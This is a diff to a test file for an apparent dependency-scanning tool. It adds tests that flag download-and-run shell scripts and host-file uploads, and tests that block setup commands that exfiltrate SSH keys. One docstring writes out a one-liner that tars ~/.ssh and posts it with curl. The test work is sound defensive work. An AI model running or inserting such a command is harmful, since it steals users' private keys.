@@ -8,8 +8,6 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
-
 from depshield.alerts.grading import THREATS
 from depshield.analysis import analyze_artifact
 from depshield.model import PackageResult
@@ -61,11 +59,22 @@ def test_download_chmod_run_across_functions_at_import_is_blocked() -> None:
     assert result.verdict == "block"
 
 
-@pytest.mark.xfail(strict=True, reason="gap: a shipped shell script's wget&&chmod&&run is monitor")
 def test_shipped_shell_script_download_and_run_warns_at_least() -> None:
+    """A script installed beside the package's modules that nothing runs at install or import:
+    its unverified download-and-run and its upload of host files are flagged (warn), not
+    hidden as a maintainer script's would be."""
     result = analyze("incidents", "pypi-shell-oneliners")
-    found = {(t, f, ln) for t, f, ln, act in alerts(result) if act in ("error", "warn")}
-    assert ("remoteCodeDownload", "shellprobe/init.sh", 3) in found
+    found = {(t, f, ln, act) for t, f, ln, act in alerts(result)}
+    assert ("remoteCodeDownload", "shellprobe/init.sh", 3, "warn") in found
+    assert ("dataExfiltration", "shellprobe/init.sh", 2, "warn") in found
+
+
+def test_shipped_installer_script_that_checks_its_release_digest_is_not_remote_code() -> None:
+    """An installer script beside the modules that curls its own release and checks the
+    sha256 before running it; and a CI report upload of a project file."""
+    result = analyze("lookalikes", "pypi-shell-verified-installer")
+    assert result.verdict == "pass"
+    assert not {a.type for a in result.alerts} & THREATS
 
 
 def test_hash_pinned_release_downloader_called_only_is_not_blocked() -> None:
@@ -138,3 +147,10 @@ def test_decoding_a_callers_blob_is_not_blocked() -> None:
     result = analyze("lookalikes", "pypi-decode-caller-blob")
     assert result.verdict != "block"
     assert not {a.action for a in result.alerts if a.type in THREATS} & {"error"}
+
+
+def test_install_command_uploading_ssh_keys_through_a_pipe_is_blocked() -> None:
+    """`tar czf - ~/.ssh | curl --data-binary @- URL` in a cmdclass's subprocess string."""
+    result = analyze("incidents", "pypi-setup-key-upload")
+    assert ("dataExfiltration", "setup.py", 10, "error") in alerts(result)
+    assert result.verdict == "block"
